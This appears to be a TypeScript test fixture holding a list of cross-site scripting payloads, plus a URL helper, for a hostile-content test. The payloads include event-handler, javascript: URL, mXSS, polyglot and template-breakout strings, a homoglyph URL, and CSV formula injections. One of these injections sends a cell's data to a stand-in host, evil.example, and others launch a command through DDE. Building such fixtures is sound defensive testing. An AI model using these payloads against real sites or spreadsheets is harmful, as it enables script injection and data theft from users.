/**
 * Hostile text for the hostile-content test: each payload, if a page ever ran it, calls
 * `__xss(<n>)` (or `alert`), which the test's init script records. Script tags, event
 * handlers, `javascript:`, `data:` and `vbscript:` URLs, SVG and MathML, broken and nested
 * markup, parser confusion (mXSS), polyglots, template and JSON breakouts, RTL overrides,
 * homoglyph URLs, and spreadsheet formulas (for the CSV export). One line each.
 */
export const xssPayloads: string[] = [
  `<script>__xss(1)</script>`,
  `<img src=x onerror=__xss(2)>`,
  `<svg onload=__xss(3)>`,
  `<svg><script>__xss(4)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=__xss(5)>`,
  `javascript:__xss(6)`,
  `data:text/html,<script>__xss(7)</script>`,
  `vbscript:msgbox(8)`,
  `"><script>__xss(9)</script>`,
  `'><img src=x onerror=__xss(10)>`,
  `<iframe srcdoc="<script>parent.__xss(11)</script>"></iframe>`,
  `<a href="javascript:__xss(12)">click me</a>`,
  `<details open ontoggle=__xss(13)>`,
  `<body onload=__xss(14)>`,
  `<input autofocus onfocus=__xss(15)>`,
  `<video><source onerror=__xss(16)></video>`,
  `<object data="javascript:__xss(17)"></object>`,
  `<embed src="javascript:__xss(18)">`,
  `<form><button formaction=javascript:__xss(19)>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:__xss(20)">`,
  `<base href="javascript:__xss(21)//">`,
  `<div style="background:url(javascript:__xss(22))">styled</div>`,
  `<noscript><p title="</noscript><img src=x onerror=__xss(23)>">`,
  `<svg><animate onbegin=__xss(24) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:__xss(25)"><text x=20 y=20>svg link</text></a></svg>`,
  `<math href="javascript:__xss(26)">math link</math>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=__xss(27) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss(27)//>\\x3e`,
  `<img src="x\u202e" onerror=__xss(28)>\u202egnp.exe`,
  `</textarea><script>__xss(29)</script>`,
  `</title><script>__xss(30)</script>`,
  `<!--<img src="--><img src=x onerror=__xss(31)//">`,
  `<scr<script>ipt>__xss(32)</scr</script>ipt>`,
  `<img src=x onerror=eval(atob('X194c3MoMzMp'))>`,
  `{{constructor.constructor('__xss(34)')()}}`,
  `\${__xss(35)}`,
  `<a href="&#106;avascript:__xss(36)">entity link</a>`,
  `<a href="jav&#x09;ascript:__xss(37)">tab link</a>`,
  `[markdown link](javascript:__xss(38))`,
  `![markdown image](x" onerror="__xss(39))`,
  `<javascript:__xss(40)>`,
  `<svg><foreignObject><iframe src="javascript:__xss(41)"></iframe></foreignObject></svg>`,
  `<marquee onstart=__xss(42)>marquee</marquee>`,
  `" onmouseover="__xss(43)" x="`,
  `</script><script>__xss(44)</script>`,
  `\u2028\u2029</script><img src=x onerror=__xss(45)>`,
  `https://example.org/?q=<img src=x onerror=__xss(46)>`,
  `https://exаmple.org/login`, // the "а" is Cyrillic
  `https://example.org/"><svg onload=__xss(48)>`,
  `<style>@import 'javascript:__xss(49)';</style>`,
  `<select><template><style></template><img src=x onerror=__xss(50)></select>`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** A URL, for the fields that take one, that still carries payload `n` in its path and query. */
export function payloadUrl(n: number): string {
  return `https://example.org/${n}/${encodeURIComponent(xssPayloads[n % xssPayloads.length]!)}?q=${encodeURIComponent(
    xssPayloads[(n + 1) % xssPayloads.length]!,
  )}`;
}
